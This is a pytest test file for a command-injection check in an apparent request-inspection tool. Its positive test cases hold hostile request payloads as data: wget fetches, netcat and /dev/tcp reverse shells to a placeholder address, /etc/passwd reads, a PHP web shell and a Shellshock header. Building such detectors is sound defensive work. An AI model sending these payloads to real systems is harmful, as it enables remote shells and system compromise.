"""Command lines in requests."""

import pytest

from pforte.visits.checks import command_injection


@pytest.mark.parametrize(
    "target",
    [
        b"/x?a=1;wget%20http://h.example/m.sh",
        b"/x?a=$(id)",
        b"/x?a=`whoami`",
        b"/x?a=1%0acat%20/etc/passwd",
        b"/x?a=1|nc+-e+/bin/sh+192.0.2.9+4444",
        b"/x?a=1%26%26uname+-a",
        b"/x?a=1;sleep+5",
        b"/x?a=|nslookup+x.example.net",
        b"/cgi-bin/;cd+/tmp/x",
        b"/x?a=1;/bin/busybox+MIRAI",
        b"/x?a=bash+-i+>%26+/dev/tcp/192.0.2.9/443",
        b"/x?s=<?php+system($_GET[1])",
        b"/shell?cd+/tmp;./a",
    ],
)
def test_convicts(asking, target):
    """A command behind a separator has no other meaning."""
    finding = asking(command_injection.CHECK)(target)
    assert finding is not None
    assert finding.check == command_injection.ID
    assert finding.observed


@pytest.mark.parametrize(
    "target",
    [
        b"/x?a=cats;dogs",
        b"/x?q=wget+http://a.example/b;chmod+777",
        b"/files/?C=M;O=A",
        b"/x?a=R%26D;id=4",
        b"/tags/a|b",
        b"/x?note=rm+is+a+command",
        b"/a;jsessionid=1?b=2",
        b"/x?price=$(5)",
        b"/x?a=id",
    ],
)
def test_acquits(asking, target):
    """Words that are also commands are only words."""
    assert asking(command_injection.CHECK)(target) is None


@pytest.mark.parametrize("field", ["agent", "referrer"])
def test_shellshock_is_seen_in_header_fields(asking, field):
    """Servers hand header fields to CGI programs in the environment."""
    assert asking(command_injection.CHECK)(b"/", **{field: b"() { :;}; /bin/cat /etc/passwd"}) is not None
